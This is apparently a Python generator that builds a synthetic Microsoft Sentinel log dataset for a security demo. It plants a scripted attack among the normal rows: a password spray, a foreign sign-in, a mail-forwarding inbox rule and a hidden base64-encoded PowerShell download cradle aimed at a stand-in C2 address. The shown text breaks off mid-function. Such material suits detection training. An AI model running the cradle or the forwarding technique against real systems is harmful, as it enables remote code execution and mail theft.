"""Deterministic generator of the demo workspace.

Normal activity is drawn day by day with numpy (vectorised, so a million rows take seconds and
memory stays bounded at any scale); the attack described in STORY.md is added as explicit rows
on the days it happens. Every table has Microsoft's column names and KQL types
(``schemas.json``); columns the generator does not model are null.

Columns are written in the order Log Analytics gives them (what ``take`` and ``project *`` show),
as ``schemas.json`` lists them: SigninLogs as a Log Analytics export of the table lists them,
CommonSecurityLog as ``getschema`` does (Azure-Sentinel's
``Sample Data/ASIM/CommonSecurityLog_Schema.csv``), the Device* tables as Microsoft Defender
XDR's table reference does; columns added to a table since come after those, ``Type`` last. The
other tables have ``TenantId`` and ``TimeGenerated`` first, as every Log Analytics table does, and
their other columns in the reference's order.
"""

from __future__ import annotations

import base64
import hashlib
import json
import time
import uuid
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

from ..types import TYPES
from .versions import new_version, publish

#: Changes when the files change shape (2: columns in Log Analytics' order); an older data set
#: is generated again.
VERSION = 2
MARKER = "_generated.json"
DAYS = 30
SCHEMAS: dict[str, list[list[str]]] = json.loads(
    (Path(__file__).with_name("schemas.json")).read_text()
)
TENANT = "4f6b2c1e-7d3a-4e55-9b1c-0a2d3e4f5a6b"
DOMAIN = "contoso.example"

#: Events per day at scale 1 (about a million rows over 30 days).
DAILY = {
    "SigninLogs": 5200,
    "AuditLogs": 1200,
    "SecurityEvent": 8200,
    "DeviceProcessEvents": 6500,
    "DeviceNetworkEvents": 5600,
    "DeviceLogonEvents": 1500,
    "OfficeActivity": 2200,
    "AzureActivity": 700,
    "CommonSecurityLog": 2600,
    "Syslog": 1400,
}

FIRST = (
    "adele alex allan amy ben brian carla chris dana david diego emily emma eric grace hannah "
    "henry isaiah jack james jane joni kate laura lee lidia lynne megan miriam nestor olivia "
    "omar patti pradeep priya raj rosa sam sarah sofia tom uma victor wendy yuki zoe"
).split()
LAST = (
    "vance wilber brown chen diaz evans fischer garcia hughes ito jones kim lopez miller "
    "nguyen okafor patel quinn rossi sato smith taylor walker young zhang adams baker"
).split()
#: City, state, country, latitude, longitude, public network prefix.
CITIES = [
    ("Seattle", "Washington", "US", 47.61, -122.33, "20.112"),
    ("Redmond", "Washington", "US", 47.67, -122.12, "20.190"),
    ("New York", "New York", "US", 40.71, -74.01, "52.170"),
    ("Chicago", "Illinois", "US", 41.88, -87.63, "40.77"),
    ("Austin", "Texas", "US", 30.27, -97.74, "52.180"),
    ("London", "England", "GB", 51.51, -0.13, "51.140"),
    ("Berlin", "Berlin", "DE", 52.52, 13.40, "20.79"),
]
APPS = [
    ("Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000"),
    ("Microsoft Teams", "1fec8e78-bce4-4aaf-ab1b-5451cc387264"),
    ("Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000"),
    ("Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c"),
    ("Microsoft Outlook", "5d661950-3475-41cd-a2c3-d671a3162bc1"),
    ("OneDrive SyncEngine", "ab9b8c07-8f02-4f72-87fa-80105867a763"),
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
FAILURES = [("50126", "Invalid username or password or Invalid on-premise username or password.")]
NORMAL_RESULTS = [
    ("0", ""),
    ("50126", FAILURES[0][1]),
    ("50074", "Strong Authentication is required."),
    (
        "50140",
        "This error occurred due to 'Keep me signed in' interrupt when the user was signing in.",
    ),
]
PROCESSES = [
    (
        "chrome.exe",
        r"C:\Program Files\Google\Chrome\Application",
        "explorer.exe",
        '"chrome.exe" --type=renderer --lang=en-US',
    ),
    (
        "msedge.exe",
        r"C:\Program Files (x86)\Microsoft\Edge\Application",
        "explorer.exe",
        '"msedge.exe" --single-argument https://portal.office.com',
    ),
    (
        "OUTLOOK.EXE",
        r"C:\Program Files\Microsoft Office\root\Office16",
        "explorer.exe",
        '"OUTLOOK.EXE" /recycle',
    ),
    (
        "Teams.exe",
        r"C:\Users\Public\AppData\Local\Microsoft\Teams\current",
        "explorer.exe",
        '"Teams.exe" --system-initiated',
    ),
    (
        "svchost.exe",
        r"C:\Windows\System32",
        "services.exe",
        "svchost.exe -k netsvcs -p -s Schedule",
    ),
    ("cmd.exe", r"C:\Windows\System32", "explorer.exe", r'cmd.exe /c "dir C:\Users"'),
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        "explorer.exe",
        "powershell.exe -NoProfile -Command Get-Service",
    ),
    (
        "conhost.exe",
        r"C:\Windows\System32",
        "cmd.exe",
        r"\??\C:\Windows\system32\conhost.exe 0xffffffff",
    ),
    (
        "MsMpEng.exe",
        r"C:\ProgramData\Microsoft\Windows Defender\Platform",
        "services.exe",
        "MsMpEng.exe",
    ),
    ("git.exe", r"C:\Program Files\Git\cmd", "Code.exe", "git.exe fetch --all"),
]
SERVERS = [
    "SRV-DC01",
    "SRV-DC02",
    "SRV-FILE01",
    "SRV-SQL01",
    "SRV-WEB01",
    "SRV-APP01",
    "SRV-BACKUP01",
]
LINUX = ["lnx-web-01", "lnx-web-02", "lnx-bastion-01", "lnx-db-01"]

# The attack (see STORY.md). Attacker addresses are in documentation ranges: nothing real.
SPRAY_IPS = ["203.0.113.17", "203.0.113.42", "203.0.113.88"]
FOREIGN_IP = "198.51.100.23"
C2_IP = "203.0.113.50"
VICTIM = f"adele.vance@{DOMAIN}"
VICTIM_HOST = "WKS-0042"
LATERAL_HOST = "SRV-FILE01"
FORWARD_TO = "adele.vance.archive@mailbox-relay.example"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2_IP}/stage2.ps1')"
ENCODED = base64.b64encode(CRADLE.encode("utf-16-le")).decode()


@dataclass
class GenerationReport:
    """What a generation wrote."""

    rows: dict[str, int] = field(default_factory=dict)
    seconds: float = 0.0

    @property
    def total_rows(self) -> int:
        """Rows in all tables."""
        return sum(self.rows.values())

    @property
    def rows_per_second(self) -> float:
        """Generation rate."""
        return self.total_rows / self.seconds if self.seconds else 0.0


def is_generated(path: Path) -> bool:
    """True when a complete data set is at ``path`` (its marker is written last), unless its
    marker names another version of the generator."""
    try:
        marker = json.loads((Path(path) / MARKER).read_text())
    except OSError:
        return False
    except ValueError:
        return True
    return not isinstance(marker, dict) or marker.get("version", VERSION) == VERSION


@dataclass
class Org:
    """The fictional organisation: users with home cities and workstations, hosts, addresses."""

    users: list[str]
    names: list[str]
    user_ids: list[str]
    home: np.ndarray
    weight: np.ndarray
    workstation: list[str]
    host_ip: dict[str, str]

    @staticmethod
    def make(rng: np.random.Generator) -> Org:
        """Draws the organisation."""
        users, names = [], []
        for first in FIRST:
            for last in rng.choice(LAST, size=6, replace=False):
                users.append(f"{first}.{last}@{DOMAIN}")
                names.append(f"{first.title()} {last.title()}")
        users[0], names[0] = VICTIM, "Adele Vance"
        n = len(users)
        weight = rng.lognormal(0, 0.8, n)
        workstation = [f"WKS-{i % 60:04d}" for i in range(n)]
        workstation[0] = VICTIM_HOST
        hosts = sorted(set(workstation)) + SERVERS + LINUX
        host_ip = {h: f"10.0.{i // 200 + 1}.{i % 200 + 10}" for i, h in enumerate(hosts)}
        return Org(
            users=users,
            names=names,
            user_ids=[str(uuid.UUID(int=int(rng.integers(1 << 62)) << 64 | i)) for i in range(n)],
            home=rng.choice(len(CITIES), size=n, p=[0.3, 0.25, 0.15, 0.1, 0.1, 0.05, 0.05]),
            weight=weight / weight.sum(),
            workstation=workstation,
            host_ip=host_ip,
        )


def _times(rng: np.random.Generator, day: datetime, n: int) -> np.ndarray:
    """Event times in one day, with a working-hours peak."""
    hours = np.array(
        [1, 1, 1, 1, 1, 2, 4, 8, 12, 12, 11, 10, 9, 11, 12, 11, 9, 6, 4, 3, 2, 2, 1, 1.0]
    )
    hour = rng.choice(24, size=n, p=hours / hours.sum())
    micros = hour * 3_600_000_000 + rng.integers(0, 3_600_000_000, size=n)
    return np.datetime64(day.replace(tzinfo=None), "us") + micros.astype("timedelta64[us]")


#: A null for ``np.where``: numpy's type stubs take arrays, not a bare None.
_NULL = np.array(None, dtype=object)


def _pick(
    rng: np.random.Generator, values: list[Any], n: int, p: list[float] | None = None
) -> np.ndarray:
    return np.array(values, dtype=object)[rng.choice(len(values), size=n, p=p)]


def _device_id(host: str) -> str:
    """Defender's 40-hex-digit device id, stable per host."""
    return hashlib.sha1(host.encode(), usedforsecurity=False).hexdigest()


def _location(city: int) -> str:
    c = CITIES[city]
    return json.dumps(
        {
            "city": c[0],
            "state": c[1],
            "countryOrRegion": c[2],
            "geoCoordinates": {"latitude": c[3], "longitude": c[4]},
        }
    )


class DayWriter:
    """Builds one table-day from modelled columns and writes it sorted by time."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.rows: dict[str, int] = {}

    def write(
        self, table: str, day: datetime, columns: dict[str, Any], extra: list[dict[str, Any]]
    ) -> None:
        """Writes normal rows (column arrays) plus explicit rows, all columns in schema order."""
        schema = pa.schema([(name, TYPES[kql].stored) for name, kql in SCHEMAS[table]])
        n = len(columns["TimeGenerated"])
        arrays = []
        for name, kql in SCHEMAS[table]:
            values = columns.get(name)
            if values is None:
                arrays.append(pa.nulls(n, TYPES[kql].stored))
            else:
                arrays.append(
                    pa.array(values, type=TYPES[kql].stored)
                    if kql != "dynamic"
                    else pa.array(list(values), type=pa.string()).cast(TYPES[kql].stored)
                )
        data = pa.Table.from_arrays(arrays, schema=schema)
        if extra:
            rows = [{name: row.get(name) for name in schema.names} for row in extra]
            data = pa.concat_tables([data, pa.Table.from_pylist(rows, schema=schema)])
        if "Timestamp" in schema.names:
            data = data.set_column(
                schema.get_field_index("Timestamp"), "Timestamp", data.column("TimeGenerated")
            )
        data = data.sort_by("TimeGenerated")
        folder = self.root / table
        folder.mkdir(parents=True, exist_ok=True)
        pq.write_table(data, folder / f"{day:%Y-%m-%d}.parquet", row_group_size=100_000)
        self.rows[table] = self.rows.get(table, 0) + data.num_rows


def _signins(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    user = rng.choice(len(org.users), size=n, p=org.weight)
    city = org.home[user].copy()
    # A few users travel: their sign-ins come from another of the usual cities.
    travel = rng.random(n) < 0.02
    city[travel] = rng.choice(len(CITIES), size=int(travel.sum()))
    result = rng.choice(len(NORMAL_RESULTS), size=n, p=[0.93, 0.04, 0.02, 0.01])
    app = rng.choice(len(APPS), size=n)
    users = np.array(org.users, dtype=object)[user]
    locations = np.array([_location(c) for c in range(len(CITIES))], dtype=object)
    prefixes = np.array([c[5] for c in CITIES], dtype=object)
    ips = [
        f"{prefixes[c]}.{(u * 7) % 250 + 1}.{u % 200 + 20}" for c, u in zip(city, user, strict=True)
    ]
    return {
        "TimeGenerated": _times(rng, day, n),
        "UserPrincipalName": users,
        "UserDisplayName": np.array(org.names, dtype=object)[user],
        "Identity": np.array(org.names, dtype=object)[user],
        "UserId": np.array(org.user_ids, dtype=object)[user],
        "IPAddress": ips,
        "Location": np.array([c[2] for c in CITIES], dtype=object)[city],
        "LocationDetails": locations[city],
        "ResultType": np.array([r[0] for r in NORMAL_RESULTS], dtype=object)[result],
        "ResultDescription": np.array([r[1] for r in NORMAL_RESULTS], dtype=object)[result],
        "AppDisplayName": np.array([a[0] for a in APPS], dtype=object)[app],
        "AppId": np.array([a[1] for a in APPS], dtype=object)[app],
        "ClientAppUsed": _pick(rng, ["Browser", "Mobile Apps and Desktop clients"], n),
        "UserAgent": _pick(rng, AGENTS, n),
        "IsInteractive": rng.random(n) < 0.8,
        "ConditionalAccessStatus": _pick(rng, ["success", "notApplied"], n, [0.7, 0.3]),
        "AuthenticationRequirement": _pick(
            rng, ["singleFactorAuthentication", "multiFactorAuthentication"], n, [0.4, 0.6]
        ),
        "RiskLevelDuringSignIn": _pick(rng, ["none", "low"], n, [0.97, 0.03]),
        "Category": np.full(n, "SignInLogs", dtype=object),
        "OperationName": np.full(n, "Sign-in activity", dtype=object),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "SigninLogs", dtype=object),
    }


def _security_events(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    hosts = sorted(set(org.workstation)) + SERVERS
    host = _pick(rng, hosts, n)
    event = _pick(
        rng,
        [4624, 4634, 4625, 4688, 4672, 4768, 4769],
        n,
        [0.3, 0.25, 0.02, 0.25, 0.08, 0.05, 0.05],
    )
    user = rng.choice(len(org.users), size=n, p=org.weight)
    account = [f"CONTOSO\\{u.split('@')[0]}" for u in np.array(org.users, dtype=object)[user]]
    logon = _pick(rng, [2, 3, 7, 10, 5], n, [0.3, 0.45, 0.1, 0.05, 0.1])
    activity = {
        4624: "4624 - An account was successfully logged on.",
        4634: "4634 - An account was logged off.",
        4625: "4625 - An account failed to log on.",
        4688: "4688 - A new process has been created.",
        4672: "4672 - Special privileges assigned to new logon.",
        4768: "4768 - A Kerberos authentication ticket (TGT) was requested.",
        4769: "4769 - A Kerberos service ticket was requested.",
    }
    process = rng.choice(len(PROCESSES), size=n)
    is_process = event == 4688
    new_process = np.where(
        is_process,
        np.array([f"{p[1]}\\{p[0]}" for p in PROCESSES], dtype=object)[process],
        _NULL,
    )
    return {
        "TimeGenerated": _times(rng, day, n),
        "Computer": [f"{h}.{DOMAIN}" for h in host],
        "EventID": event,
        "Activity": [activity[e] for e in event],
        "Account": account,
        "AccountType": np.full(n, "User", dtype=object),
        "TargetUserName": [a.split("\\")[1] for a in account],
        "TargetDomainName": np.full(n, "CONTOSO", dtype=object),
        "SubjectUserName": np.where(is_process, [a.split("\\")[1] for a in account], _NULL),
        "LogonType": np.where(np.isin(event, [4624, 4625]), logon, _NULL),
        "IpAddress": np.where(
            np.isin(event, [4624, 4625]), _pick(rng, list(org.host_ip.values()), n), _NULL
        ),
        "WorkstationName": np.where(np.isin(event, [4624, 4625]), _pick(rng, hosts, n), _NULL),
        "NewProcessName": new_process,
        "CommandLine": np.where(
            is_process, np.array([p[3] for p in PROCESSES], dtype=object)[process], _NULL
        ),
        "ParentProcessName": np.where(
            is_process, np.array([p[2] for p in PROCESSES], dtype=object)[process], _NULL
        ),
        "Process": np.where(
            is_process, np.array([p[0] for p in PROCESSES], dtype=object)[process], _NULL
        ),
        "EventSourceName": np.full(n, "Microsoft-Windows-Security-Auditing", dtype=object),
        "Channel": np.full(n, "Security", dtype=object),
        "Level": np.full(n, "8", dtype=object),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "SecurityEvent", dtype=object),
    }


def _device_processes(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    user = rng.choice(len(org.users), size=n, p=org.weight)
    process = rng.choice(len(PROCESSES), size=n)
    names = [p[0] for p in PROCESSES]
    return {
        "TimeGenerated": _times(rng, day, n),
        "DeviceName": [f"{org.workstation[u].lower()}.{DOMAIN}" for u in user],
        "DeviceId": [_device_id(org.workstation[u]) for u in user],
        "AccountName": [org.users[u].split("@")[0] for u in user],
        "AccountDomain": np.full(n, "contoso", dtype=object),
        "AccountUpn": np.array(org.users, dtype=object)[user],
        "ActionType": np.full(n, "ProcessCreated", dtype=object),
        "FileName": np.array(names, dtype=object)[process],
        "FolderPath": np.array([f"{p[1]}\\{p[0]}" for p in PROCESSES], dtype=object)[process],
        "ProcessCommandLine": np.array([p[3] for p in PROCESSES], dtype=object)[process],
        "ProcessId": rng.integers(1000, 65000, size=n),
        "InitiatingProcessFileName": np.array([p[2] for p in PROCESSES], dtype=object)[process],
        "InitiatingProcessAccountName": [org.users[u].split("@")[0] for u in user],
        "InitiatingProcessCommandLine": np.array([p[2] for p in PROCESSES], dtype=object)[process],
        "SHA256": np.array(
            [hashlib.sha256(p[0].encode()).hexdigest() for p in PROCESSES], dtype=object
        )[process],
        "ReportId": rng.integers(1, 1 << 40, size=n),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "DeviceProcessEvents", dtype=object),
    }


REMOTE = [
    ("outlook.office365.com", "52.96.88.130", 443),
    ("login.microsoftonline.com", "20.190.151.7", 443),
    ("teams.microsoft.com", "52.113.194.132", 443),
    ("github.com", "140.82.112.3", 443),
    ("update.googleapis.com", "142.250.72.99", 443),
    ("ctldl.windowsupdate.com", "93.184.221.240", 80),
    ("", "10.0.1.10", 445),
    ("", "10.0.1.11", 389),
]


def _device_network(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    user = rng.choice(len(org.users), size=n, p=org.weight)
    remote = rng.choice(len(REMOTE), size=n)
    process = _pick(rng, ["chrome.exe", "msedge.exe", "OUTLOOK.EXE", "Teams.exe", "svchost.exe"], n)
    return {
        "TimeGenerated": _times(rng, day, n),
        "DeviceName": [f"{org.workstation[u].lower()}.{DOMAIN}" for u in user],
        "DeviceId": [_device_id(org.workstation[u]) for u in user],
        "ActionType": _pick(
            rng,
            ["ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted"],
            n,
            [0.9, 0.07, 0.03],
        ),
        "RemoteUrl": np.array([r[0] for r in REMOTE], dtype=object)[remote],
        "RemoteIP": np.array([r[1] for r in REMOTE], dtype=object)[remote],
        "RemotePort": np.array([r[2] for r in REMOTE])[remote],
        "RemoteIPType": np.where(remote >= 6, "Private", "Public"),
        "LocalIP": [org.host_ip[org.workstation[u]] for u in user],
        "LocalPort": rng.integers(49152, 65535, size=n),
        "Protocol": np.full(n, "Tcp", dtype=object),
        "InitiatingProcessFileName": process,
        "InitiatingProcessAccountName": [org.users[u].split("@")[0] for u in user],
        "InitiatingProcessCommandLine": process,
        "ReportId": rng.integers(1, 1 << 40, size=n),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "DeviceNetworkEvents", dtype=object),
    }


def _device_logons(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    user = rng.choice(len(org.users), size=n, p=org.weight)
    return {
        "TimeGenerated": _times(rng, day, n),
        "DeviceName": [f"{org.workstation[u].lower()}.{DOMAIN}" for u in user],
        "DeviceId": [_device_id(org.workstation[u]) for u in user],
        "AccountName": [org.users[u].split("@")[0] for u in user],
        "AccountDomain": np.full(n, "contoso", dtype=object),
        "ActionType": _pick(rng, ["LogonSuccess", "LogonFailed"], n, [0.95, 0.05]),
        "LogonType": _pick(
            rng, ["Interactive", "Unlock", "Network", "CachedInteractive"], n, [0.4, 0.3, 0.2, 0.1]
        ),
        "Protocol": _pick(rng, ["Kerberos", "NTLM", "Negotiate"], n, [0.7, 0.1, 0.2]),
        "RemoteIP": np.full(n, None, dtype=object),
        "IsLocalAdmin": rng.random(n) < 0.1,
        "ReportId": rng.integers(1, 1 << 40, size=n),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "DeviceLogonEvents", dtype=object),
    }


def _office(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    user = rng.choice(len(org.users), size=n, p=org.weight)
    op = _pick(
        rng,
        [
            "MailItemsAccessed",
            "Send",
            "FileAccessed",
            "FileModified",
            "FileDownloaded",
            "MoveToDeletedItems",
        ],
        n,
        [0.35, 0.15, 0.2, 0.12, 0.1, 0.08],
    )
    workload = np.where(
        np.isin(op, ["FileAccessed", "FileModified", "FileDownloaded"]), "SharePoint", "Exchange"
    )
    return {
        "TimeGenerated": _times(rng, day, n),
        "UserId": np.array(org.users, dtype=object)[user],
        "Operation": op,
        "OfficeWorkload": workload,
        "RecordType": np.where(workload == "Exchange", "ExchangeItem", "SharePointFileOperation"),
        "ResultStatus": np.full(n, "Succeeded", dtype=object),
        "ClientIP": [f"{CITIES[org.home[u]][5]}.{(u * 7) % 250 + 1}.{u % 200 + 20}" for u in user],
        "OfficeObjectId": [
            f"https://contoso.sharepoint.example/sites/team/doc{i % 500}.docx" for i in range(n)
        ],
        "OrganizationId": np.full(n, TENANT, dtype=object),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "OfficeActivity", dtype=object),
    }


def _audit(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    user = rng.choice(len(org.users), size=n, p=org.weight)
    op = _pick(
        rng,
        [
            "Update user",
            "Add member to group",
            "Reset password (self-service)",
            "Update application",
            "Consent to application",
        ],
        n,
        [0.5, 0.2, 0.15, 0.1, 0.05],
    )
    initiated = np.array(
        [json.dumps({"user": {"userPrincipalName": u, "ipAddress": ""}}) for u in org.users],
        dtype=object,
    )[user]
    return {
        "TimeGenerated": _times(rng, day, n),
        "OperationName": op,
        "ActivityDisplayName": op,
        "Category": _pick(rng, ["UserManagement", "GroupManagement", "ApplicationManagement"], n),
        "Result": _pick(rng, ["success", "failure"], n, [0.97, 0.03]),
        "LoggedByService": np.full(n, "Core Directory", dtype=object),
        "InitiatedBy": initiated,
        "TargetResources": np.array(
            [json.dumps([{"userPrincipalName": u, "type": "User"}]) for u in org.users],
            dtype=object,
        )[rng.choice(len(org.users), size=n)],
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "AuditLogs", dtype=object),
    }


def _azure(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    user = rng.choice(len(org.users), size=n, p=org.weight)
    op = _pick(
        rng,
        [
            "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION",
            "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION",
            "MICROSOFT.RESOURCES/DEPLOYMENTS/WRITE",
            "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/WRITE",
        ],
        n,
    )
    return {
        "TimeGenerated": _times(rng, day, n),
        "OperationNameValue": op,
        "Caller": np.array(org.users, dtype=object)[user],
        "CallerIpAddress": [
            f"{CITIES[org.home[u]][5]}.{(u * 7) % 250 + 1}.{u % 200 + 20}" for u in user
        ],
        "ActivityStatusValue": _pick(rng, ["Success", "Start", "Failure"], n, [0.6, 0.35, 0.05]),
        "CategoryValue": np.full(n, "Administrative", dtype=object),
        "ResourceGroup": _pick(rng, ["RG-PROD", "RG-DEV", "RG-SHARED"], n),
        "SubscriptionId": np.full(n, "1b2c3d4e-5f60-4a7b-8c9d-0e1f2a3b4c5d", dtype=object),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "AzureActivity", dtype=object),
    }


def _firewall(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    remote = rng.choice(len(REMOTE) - 2, size=n)
    src = _pick(rng, list(org.host_ip.values()), n)
    return {
        "TimeGenerated": _times(rng, day, n),
        "DeviceVendor": np.full(n, "Palo Alto Networks", dtype=object),
        "DeviceProduct": np.full(n, "PAN-OS", dtype=object),
        "Activity": np.full(n, "TRAFFIC", dtype=object),
        "DeviceAction": _pick(rng, ["allow", "deny"], n, [0.95, 0.05]),
        "SourceIP": src,
        "DestinationIP": np.array([r[1] for r in REMOTE], dtype=object)[remote],
        "DestinationPort": np.array([r[2] for r in REMOTE])[remote],
        "Protocol": np.full(n, "TCP", dtype=object),
        "SentBytes": rng.lognormal(8, 1.5, n).astype(np.int64),
        "ReceivedBytes": rng.lognormal(10, 1.5, n).astype(np.int64),
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "CommonSecurityLog", dtype=object),
    }


def _syslog(rng: np.random.Generator, org: Org, day: datetime, n: int) -> dict[str, Any]:
    host = _pick(rng, LINUX, n)
    kind = rng.choice(4, size=n, p=[0.5, 0.3, 0.15, 0.05])
    messages = np.array(
        [
            "Accepted publickey for deploy from 10.0.1.30 port 52144 ssh2",
            "pam_unix(cron:session): session opened for user root by (uid=0)",
            "Started Daily apt upgrade and clean activities.",
            "Failed password for invalid user admin from 45.33.32.156 port 40112 ssh2",
        ],
        dtype=object,
    )
    return {
        "TimeGenerated": _times(rng, day, n),
        "Computer": host,
        "HostName": host,
        "Facility": np.array(["authpriv", "cron", "daemon", "authpriv"], dtype=object)[kind],
        "SeverityLevel": np.array(["info", "info", "notice", "warning"], dtype=object)[kind],
        "ProcessName": np.array(["sshd", "CRON", "systemd", "sshd"], dtype=object)[kind],
        "SyslogMessage": messages[kind],
        "TenantId": np.full(n, TENANT, dtype=object),
        "Type": np.full(n, "Syslog", dtype=object),
    }


NORMAL = {
    "SigninLogs": _signins,
    "AuditLogs": _audit,
    "SecurityEvent": _security_events,
    "DeviceProcessEvents": _device_processes,
    "DeviceNetworkEvents": _device_network,
    "DeviceLogonEvents": _device_logons,
    "OfficeActivity": _office,
    "AzureActivity": _azure,
    "CommonSecurityLog": _firewall,
    "Syslog": _syslog,
}


def _stage_times(end: datetime) -> dict[str, datetime]:
    """When each stage of the attack happens, relative to the end of the data set."""
    day = (end - timedelta(days=6)).replace(hour=0, minute=0, second=0, microsecond=0)
    return {
        "spray": day + timedelta(hours=2),
        "compromise": day + timedelta(hours=4, minutes=41, seconds=7),
        "new_country": day + timedelta(days=1, hours=9, minutes=15, seconds=32),
        "inbox_rule": day + timedelta(days=1, hours=9, minutes=41, seconds=5),
        "powershell": day + timedelta(days=2, hours=14, minutes=5, seconds=11),
        "lateral": day + timedelta(days=2, hours=14, minutes=31, seconds=40),
        "exfiltration": day + timedelta(days=2, hours=15, minutes=10, seconds=2),
    }


def _ts(t: datetime) -> datetime:
    return t.replace(tzinfo=None)


def _attack(org: Org, end: datetime, rng: np.random.Generator) -> dict[str, list[dict[str, Any]]]:
    """Rows of the attack, per table (STORY.md tells the story)."""
    t = _stage_times(end)
    rows: dict[str, list[dict[str, Any]]] = {name: [] for name in SCHEMAS}
    spray_loc = json.dumps(
        {
            "city": "Amsterdam",
            "state": "North Holland",
            "countryOrRegion": "NL",
            "geoCoordinates": {"latitude": 52.37, "longitude": 4.9},
        }
    )
    targets = [*[u for u in org.users[1:] if rng.random() < 0.5][:120], VICTIM]
    for i, user in enumerate(targets):
        ip = SPRAY_IPS[i % len(SPRAY_IPS)]
        rows["SigninLogs"].append(
            {
                "TimeGenerated": _ts(t["spray"] + timedelta(seconds=71 * i)),
                "UserPrincipalName": user,
                "IPAddress": ip,
                "Location": "NL",
                "LocationDetails": spray_loc,
                "ResultType": FAILURES[0][0],
                "ResultDescription": FAILURES[0][1],
                "AppDisplayName": APPS[0][0],
                "AppId": APPS[0][1],
                "ClientAppUsed": "Exchange ActiveSync",
                "UserAgent": "python-requests/2.31.0",
                "IsInteractive": False,
                "Category": "SignInLogs",
                "OperationName": "Sign-in activity",
                "TenantId": TENANT,
                "Type": "SigninLogs",
            }
        )
    base = {
        "UserPrincipalName": VICTIM,
        "UserDisplayName": "Adele Vance",
        "Identity": "Adele Vance",
        "UserId": org.user_ids[0],
        "AppDisplayName": APPS[0][0],
        "AppId": APPS[0][1],
        "Category": "SignInLogs",
        "OperationName": "Sign-in activity",
        "TenantId": TENANT,
        "Type": "SigninLogs",
        "ResultType": "0",
        "ResultDescription": "",
    }
    rows["SigninLogs"].append(
        {
            **base,
            "TimeGenerated": _ts(t["compromise"]),
            "IPAddress": SPRAY_IPS[1],
            "Location": "NL",
            "LocationDetails": spray_loc,
            "ClientAppUsed": "Exchange ActiveSync",
            "UserAgent": "python-requests/2.31.0",
            "IsInteractive": False,
            "RiskLevelDuringSignIn": "medium",
        }
    )
    lagos = json.dumps(
        {
            "city": "Lagos",
            "state": "Lagos",
            "countryOrRegion": "NG",
            "geoCoordinates": {"latitude": 6.45, "longitude": 3.39},
        }
    )
    rows["SigninLogs"].append(
        {
            **base,
            "TimeGenerated": _ts(t["new_country"]),
            "IPAddress": FOREIGN_IP,
            "Location": "NG",
            "LocationDetails": lagos,
            "ClientAppUsed": "Browser",
            "UserAgent": AGENTS[0],
            "IsInteractive": True,
            "RiskLevelDuringSignIn": "high",
            "AuthenticationRequirement": "singleFactorAuthentication",
        }
    )
    office = {
        "UserId": VICTIM,
        "ClientIP": f"{FOREIGN_IP}:51544",
        "OfficeWorkload": "Exchange",
        "RecordType": "ExchangeAdmin",
        "ResultStatus": "True",
        "OrganizationId": TENANT,
        "TenantId": TENANT,
        "Type": "OfficeActivity",
    }
    rows["OfficeActivity"] += [
        {
            **office,
            "TimeGenerated": _ts(t["inbox_rule"]),
            "Operation": "New-InboxRule",
            "OfficeObjectId": f"{VICTIM}\\Archive sync",
            "Parameters": json.dumps(
                [
                    {"Name": "Name", "Value": "Archive sync"},
                    {"Name": "ForwardTo", "Value": FORWARD_TO},
                    {"Name": "DeleteMessage", "Value": "True"},
                    {"Name": "SubjectOrBodyContainsWords", "Value": "invoice;payment;wire"},
                ]
            ),
        },
        {
            **office,
            "TimeGenerated": _ts(t["inbox_rule"] + timedelta(minutes=3)),
            "Operation": "Set-Mailbox",
            "OfficeObjectId": VICTIM,
            "Parameters": json.dumps(
                [
                    {"Name": "Identity", "Value": VICTIM},
                    {"Name": "ForwardingSmtpAddress", "Value": f"smtp:{FORWARD_TO}"},
                    {"Name": "DeliverToMailboxAndForward", "Value": "True"},
                ]
            ),
        },
    ]
    ps_cmd = f"powershell.exe -NoP -W Hidden -enc {ENCODED}"
    host_fqdn = f"{VICTIM_HOST.lower()}.{DOMAIN}"
    srv_fqdn = f"{LATERAL_HOST.lower()}.{DOMAIN}"
    proc = {
        "AccountName": "adele.vance",
        "AccountDomain": "contoso",
